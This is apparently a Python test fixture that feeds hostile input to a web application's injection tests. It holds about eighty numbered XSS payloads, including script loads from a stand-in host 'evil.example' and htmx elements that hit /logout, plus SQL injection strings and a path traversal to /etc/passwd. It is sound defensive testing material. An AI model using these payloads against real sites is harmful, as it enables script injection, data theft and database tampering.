"""Hostile input for the injection tests: XSS payloads, each carrying a unique probe, and SQL metacharacters.

Every XSS payload contains the marker ``XSS<n>`` (its number) so a test that finds the marker in a
dangerous place (an event-handler attribute, a script, a ``javascript:`` URL, an htmx attribute) knows
which payload and so which field it came from. Payloads that would run set ``window.__xss`` or call
``alert('XSS<n>')``; the browser test fails on any dialog and on ``window.__xss`` being set.
"""
from __future__ import annotations

import re

# "§" is replaced by the payload's number. Kept short (most under 100 characters) so that they fit
# the text columns they are typed into.
_TEMPLATES = [
    # script tags: plain, mixed case, split, with src, after an attribute breakout
    "<script>alert('XSS§')</script>",
    "<ScRiPt>window.__xss='XSS§'</sCrIpT>",
    "<scr<script>ipt>alert('XSS§')</scr</script>ipt>",
    "<script src=//evil.example/XSS§.js></script>",
    "<<script>alert('XSS§');//<</script>",
    "\"><script>alert('XSS§')</script>",
    "'><script>window.__xss='XSS§'</script>",
    # event-handler attributes
    "<img src=x onerror=alert('XSS§')>",
    "<img src=x onerror=\"window.__xss='XSS§'\">",
    "<IMG SRC=x OnErRoR=alert('XSS§')>",
    "<svg onload=alert('XSS§')>",
    "<svg/onload=window.__xss='XSS§'>",
    "\" autofocus onfocus=\"alert('XSS§')",
    "' autofocus onfocus='window.__xss=\"XSS§\"' x='",
    "<body onload=alert('XSS§')>",
    "<input autofocus onfocus=alert('XSS§')>",
    "<details open ontoggle=window.__xss='XSS§'>",
    "<xss id=x tabindex=1 onfocusin=alert('XSS§')></xss>",
    "<a href=# onclick=\"alert('XSS§')\">XSS</a>",
    "<img src=x:alert(alt) onerror=eval(src) alt='XSS§'>",
    "<<img src=x onerror=alert('XSS§')>>",
    # javascript: URLs in Markdown and HTML
    "[click](javascript:alert('XSS§'))",
    "[click](JaVaScRiPt:window.__xss='XSS§')",
    "<javascript:alert('XSS§')>",
    "[ref][x§]\n\n[x§]: javascript:alert('XSS§')",
    "[click](jav&#x61;script:alert('XSS§'))",
    "[click](&#106;avascript:alert('XSS§'))",
    "[x](javascript&colon;alert('XSS§'))",
    "<a href=\"jav&#x61;script:alert('XSS§')\">x</a>",
    "<a href=\" javascript:alert('XSS§')\">x</a>",
    "<a href=\"javascript&colon;alert('XSS§')\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">XSS§</a>",
    "javascript:alert('XSS§')",
    "<iframe src=\"javascript:alert('XSS§')\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__xss='XSS§'</script>\"></iframe>",
    "<object data=\"javascript:alert('XSS§')\"></object>",
    "<embed src=\"data:text/html,<script>alert('XSS§')</script>\">",
    # Markdown tricks
    "![x](x\" onerror=\"alert('XSS§'))",
    "![x](javascript:alert('XSS§'))",
    "[x](http://example.com \"a\\\" onmouseover=\\\"alert('XSS§')\")",
    "<div>\n<script>alert('XSS§')</script>\n</div>",
    "```html\n<script>alert('XSS§')</script>\n```",
    "**bold** <img src=x onerror=alert('XSS§')> _it_",
    # SVG / MathML
    "<svg><script>alert('XSS§')</script></svg>",
    "<svg><animate onbegin=alert('XSS§') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('XSS§')\"><text y=20>XSS</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS§')>",
    # template syntax (server- or client-side template injection)
    "{{7*7}}XSS§",
    "{% raw %}XSS§{% endraw %}",
    "${7*7}XSS§",
    "#{7*7}XSS§",
    "{{constructor.constructor('alert(\"XSS§\")')()}}",
    "{{ config }}XSS§",
    # attribute and element breakouts
    "'\"><XSS§",
    "'\"></textarea><script>alert('XSS§')</script>",
    "</title><script>alert('XSS§')</script>",
    "</style><script>alert('XSS§')</script>",
    "</script><script>alert('XSS§')</script>",
    "<!--</script><script>window.__xss='XSS§'</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS§')>\">",
    "<style>@import'//evil.example/XSS§.css';</style>",
    "<p style=\"background:url(javascript:alert('XSS§'))\">x</p>",
    "<form action=\"javascript:alert('XSS§')\"><button>x</button></form>",
    "<button formaction=\"javascript:alert('XSS§')\">x</button>",
    "<base href=\"//evil.example/XSS§/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('XSS§')\">",
    # htmx attributes: an element that would fetch /logout as soon as it is swapped in
    "<div hx-get=\"/logout?XSS§\" hx-trigger=\"load\">x</div>",
    "<div hx-post=\"/logout\" hx-trigger=\"load\" hx-vals='{\"x\":\"XSS§\"}'>x</div>",
    "<div data-hx-get=\"/logout?XSS§\" data-hx-trigger=\"load\">x</div>",
    "<div hx-on:htmx:load=\"window.__xss='XSS§'\">x</div>",
    # encodings and unicode tricks
    "%3Cscript%3Ealert('XSS§')%3C/script%3E",
    "&lt;script&gt;alert('XSS§')&lt;/script&gt;",
    "\uff1cscript\uff1ealert('XSS§')\uff1c/script\uff1e",
    "\u202e<script>alert('XSS§')</script>",
    "\u2028\u2029</script><img src=x onerror=alert('XSS§')>",
    "<scr\u0000ipt>alert('XSS§')</script>",
    "\u0131mg \u017fcript XSS§ \U0001f600 <img src=x onerror=alert('XSS§')>",
]

PAYLOADS: list[str] = [t.replace("§", str(n)) for n, t in enumerate(_TEMPLATES, start=1)]

# The probe in a payload: "XSS" and its number.
PROBE = re.compile(r"xss(\d+)", re.IGNORECASE)


def probe_of(payload: str) -> int:
    return int(PROBE.search(payload).group(1))


def visible_form(payload: str) -> str:
    """How a payload reads as page text: whitespace collapsed (innerText and HTML both fold it)."""
    return " ".join(payload.replace("\x00", "\ufffd").split())


# SQL metacharacters and other awkward values for every search box and filter.
SQL_STRINGS = [
    "'", '"', "--", ";", "%", "_", "\\", "' OR '1'='1", "1; DROP TABLE user", "1' OR 1=1 --",
    "%' AND 1=0 UNION SELECT NULL --", "a\x00b", "\x00", "x" * 5000, "张伟💡\u202e\u0000", "-1", "0",
    "99999999999999999999999", "1e309", "NaN", "2026-13-45", "../../etc/passwd", "<script>alert(1)</script>",
]
